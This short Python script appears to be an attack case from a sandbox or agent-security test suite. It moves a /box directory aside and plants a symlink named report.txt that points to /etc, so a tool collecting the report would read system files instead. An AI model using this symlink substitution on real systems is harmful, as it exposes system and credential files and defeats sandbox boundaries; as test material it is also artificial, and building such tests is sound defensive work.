# Attack: the folder from which a file shall be collected is another one by then.
# task: report
import os

os.chdir("/tmp")
try:
    os.rename("/box", "/tmp/box")
except OSError:
    pass
os.symlink("/etc", "/tmp/report.txt")
print("done")
